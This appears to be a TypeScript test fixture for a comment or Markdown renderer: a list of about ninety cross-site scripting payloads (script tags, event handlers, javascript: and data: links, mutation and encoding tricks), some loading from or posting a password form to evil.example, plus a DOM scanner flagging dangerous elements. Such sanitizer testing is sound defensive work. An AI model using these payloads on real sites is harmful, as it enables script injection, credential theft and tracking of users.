/** Everything sets `window.owned` if it runs, or calls out, so that one look tells whether anything did. */
const deed = "window.owned=1";

/** What people with bad intentions paste, each a comment's paragraph of its own. */
export const hostileTexts: readonly string[] = [
  `<script>${deed}</script>`,
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  `<scr<script>ipt>${deed}</scr</script>ipt>`,
  `<img src=x onerror=${deed}>`,
  `<img src="x" onerror="${deed}" />`,
  `<img/src=x/onerror=${deed}>`,
  `<svg onload=${deed}>`,
  `<svg><script>${deed}</script></svg>`,
  `<svg><a xlink:href="javascript:${deed}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${deed}>#x"/></svg>`,
  `<math href="javascript:${deed}">x</math>`,
  `<math><mtext></p><style><img src=x onerror=${deed}></style></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${deed}>`,
  `<iframe src="javascript:${deed}"></iframe>`,
  `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `<object data="javascript:${deed}"></object>`,
  `<embed src="javascript:${deed}">`,
  '<base href="https://evil.example/">',
  `<meta http-equiv="refresh" content="0;url=javascript:${deed}">`,
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>body{background:url(https://evil.example)}</style>",
  '<div style="position:fixed;inset:0">over all</div>',
  '<form action="https://evil.example"><input name=password></form>',
  `<button formaction="javascript:${deed}">x</button>`,
  `<button form="react" name="thumbs_up" value="1">x</button>`,
  `<details open ontoggle=${deed}>`,
  `<input autofocus onfocus=${deed}>`,
  `<video><source onerror=${deed}></video>`,
  `<audio src=x onerror=${deed}>`,
  `<body onload=${deed}>`,
  `<marquee onstart=${deed}>x</marquee>`,
  `<template><script>${deed}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${deed}>"></noscript>`,
  `<textarea><script>${deed}</script></textarea>`,
  `<title><img src=x onerror=${deed}></title>`,
  `<!--<img src="--><img src=x onerror=${deed}>">`,
  `<![CDATA[<script>${deed}</script>]]>`,
  `<?xml version="1.0"?><script>${deed}</script>`,
  `</li></ol><script>${deed}</script>`,
  `</div></textarea></script><img src=x onerror=${deed}>`,
  `<a href="javascript:${deed}">x</a>`,
  `[x](javascript:${deed})`,
  `[x](JaVaScRiPt:${deed})`,
  `[x](java\tscript:${deed})`,
  `[x](&#x6A;avascript:${deed})`,
  `[x](javascript&colon;${deed})`,
  `[x](<javascript:${deed}>)`,
  `[x](vbscript:${deed})`,
  `[x](data:text/html,<script>${deed}</script>)`,
  "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==)",
  "[x](//evil.example)",
  "[x](/\\evil.example)",
  `[x](blob:https://evil.example/1)`,
  `[x](view-source:javascript:${deed})`,
  `<javascript:${deed}>`,
  `[x][y]\n\n[y]: javascript:${deed}`,
  `![x](javascript:${deed})`,
  "![x](https://evil.example/pixel.png)",
  "![x](//evil.example/pixel.png)",
  `![" onerror="${deed}](/x.png)`,
  `![x](/x.png '" onerror="${deed}')`,
  `[x](https://example.org "\\" onmouseover=\\"${deed}")`,
  `[x](https://example.org'onmouseover='${deed})`,
  `https://example.org/"onmouseover="${deed}`,
  `https://pagure.io/a/issue/1"onmouseover="${deed}`,
  `https://pagure.io/<script>${deed}</script>/issue/1`,
  `\`\`\`"><script>${deed}</script>\nx\n\`\`\``,
  `\`\`\`js onclick=${deed}\nx\n\`\`\``,
  `~~~<img src=x onerror=${deed}>\nx\n~~~`,
  `\`<script>${deed}</script>\``,
  `    <script>${deed}</script>`,
  `| a |\n|:-:|\n| <img src=x onerror=${deed}> |`,
  `@noor" onclick="${deed}`,
  `@<script>${deed}</script>`,
  `#2"onclick=${deed}`,
  `#2/q1"onclick=${deed}`,
  `centos/board#63"onclick=${deed}`,
  `T-1"><script>${deed}</script>`,
  `<span class="ref">#2</span><a class="ref" href="javascript:${deed}">#2</a>`,
  `# <script>${deed}</script>`,
  `- [x] <script>${deed}</script>`,
  `> <script>${deed}</script>`,
  `\u2028<script>${deed}</script>\u2029`,
  `&lt;script&gt;${deed}&lt;/script&gt;`,
  `&#60;script&#62;${deed}&#60;/script&#62;`,
  `[<img src=x onerror=${deed}>](https://example.org)`,
  `[![x](javascript:${deed})](javascript:${deed})`,
  `mailto:a@example.org?subject=<script>${deed}</script>`,
  `\${${deed}} {{${deed}}} <%= ${deed} %>`,
];

/** What is in a part of a page that could run, load from elsewhere, cover the page or lead astray: run in the browser. */
export function dangersIn(root: Element): string[] {
  const tags =
    "script,iframe,object,embed,base,meta,link,style,form,input,svg,math,video,audio,template,textarea,title";
  const found = [...root.querySelectorAll(tags)].map((element) => `<${element.localName}>`);
  for (const element of root.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^srcdoc$|^formaction$/i.test(name)) found.push(`${name}=${value}`);
      if (name === "src" && new URL(value, location.href).origin !== location.origin)
        found.push(`src=${value}`);
    }
    if (element instanceof HTMLAnchorElement && !/^(https?|mailto):$/.test(element.protocol)) {
      found.push(`href=${element.getAttribute("href")}`);
    }
    if (element instanceof HTMLAnchorElement && element.hostname === "evil.example") {
      const typed = element.getAttribute("href") ?? "";
      if (!/^https?:\/\//.test(typed)) found.push(`href=${typed}`);
    }
  }
  return found;
}
